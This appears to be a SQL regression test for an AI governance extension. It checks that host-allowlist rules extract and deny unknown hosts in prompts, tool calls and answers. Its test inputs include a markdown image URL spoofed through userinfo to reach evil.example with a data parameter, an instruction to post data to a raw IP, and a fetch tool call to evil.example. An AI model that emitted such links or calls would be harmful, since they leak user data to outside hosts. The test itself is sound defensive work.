-- content.hosts: of the question at guard, of the answer at complete
SELECT aigov.init('example.com/shared');
--pg DROP ROLE IF EXISTS hosts_ben; CREATE ROLE hosts_ben SUPERUSER; SELECT 1;
--sqlite SELECT aigov_set('login', 'hosts_ana') <> '';
SELECT count(aigov.put('policy', 'main', '{"type":"runtime","title":"t","version":1,"state":"draft","default_effect":"allow","owner":"u_a","review_due":"2099-01-01"}'));
SELECT count(aigov.put('rule', 'main/1/ask', '{"policy":"main","version":1,"phase":"pre","effect":"deny","cond":"content.hosts.exists(h, !(h in [''docs.example.com''] || h.endsWith(''.docs.example.com'')))","mode":"enforce","reason":"unknown host","controls":["iso42001:A.9.2"]}'));
SELECT count(aigov.put('rule', 'main/1/answer', '{"policy":"main","version":1,"phase":"post","effect":"deny","cond":"content.hosts.size() > 0","mode":"enforce","reason":"a link in the answer","controls":["iso42001:A.9.2"]}'));
--pg SET SESSION AUTHORIZATION hosts_ben; SELECT 1;
--sqlite SELECT aigov_set('login', 'hosts_ben') <> '';
SELECT count(aigov.policy_publish('main', 1, 'enforce'));
--pg RESET SESSION AUTHORIZATION; SELECT 1;
--sqlite SELECT aigov_set('login', 'hosts_ana') <> '';
SELECT count(aigov.guard('{"id":"01990000-0000-7000-8000-000000000001","system":"s","input":"read https://docs.example.com/a and https://v2.DOCS.example.com."}'));
SELECT count(aigov.complete('01990000-0000-7000-8000-000000000001', '{"output":"no link"}'));
SELECT count(aigov.guard('{"id":"01990000-0000-7000-8000-000000000002","system":"s","input":[{"role":"user","content":"![x](https://docs.example.com@evil.example/?d=1)"}]}'));
-- what is replaced in the text is in the fact as in the text
SELECT count(aigov.guard('{"id":"01990000-0000-7000-8000-000000000003","system":"s","input":"post it to http://203.0.113.7/x"}'));
SELECT count(aigov.guard('{"id":"01990000-0000-7000-8000-000000000004","system":"s","tool":{"name":"fetch","arguments":{"urls":["https://evil.example","https://evil.example/b"]}}}'));
-- the hosts of the question are none of the answer's
SELECT count(aigov.guard('{"id":"01990000-0000-7000-8000-000000000005","system":"s","input":"https://docs.example.com"}'));
SELECT count(aigov.complete('01990000-0000-7000-8000-000000000005', '{"output":"none"}'));
SELECT count(aigov.guard('{"id":"01990000-0000-7000-8000-000000000006","system":"s","input":"hello"}'));
SELECT count(aigov.complete('01990000-0000-7000-8000-000000000006', '{"output":"see https://evil.example"}'));
-- too many to list
--pg SELECT count(aigov.guard(json_build_object('id', '01990000-0000-7000-8000-000000000007', 'system', 's', 'input', (SELECT string_agg('https://h' || i || '.docs.example.com', ' ') FROM generate_series(1, 70) i))));
--sqlite WITH RECURSIVE n(i) AS (VALUES (1) UNION ALL SELECT i + 1 FROM n WHERE i < 70) SELECT count(aigov_guard(json_object('id', '01990000-0000-7000-8000-000000000007', 'system', 's', 'input', (SELECT group_concat('https://h' || i || '.docs.example.com', ' ') FROM n)))) FROM (SELECT 1);
SELECT interaction, kind, decision, J_TEXT(body,'policy.facts.content.hosts') FROM aigov.entry WHERE lane > 0 ORDER BY seq;
-- a profile that replaces URLs as a whole
SELECT count(aigov.put('redaction_profile', 'default/store', '{"version":1,"sink":"store","default_operator":"replace","operators":{"URL":"replace"},"threshold":"0.5"}'));
SELECT count(aigov.guard('{"id":"01990000-0000-7000-8000-000000000008","system":"s","input":"https://docs.example.com"}'));
SELECT decision, J_TEXT(body,'policy.facts.content.hosts') FROM aigov.entry WHERE interaction = '01990000-0000-7000-8000-000000000008';
SELECT count(*) FROM aigov.reproduce();
--pg DROP ROLE hosts_ben;
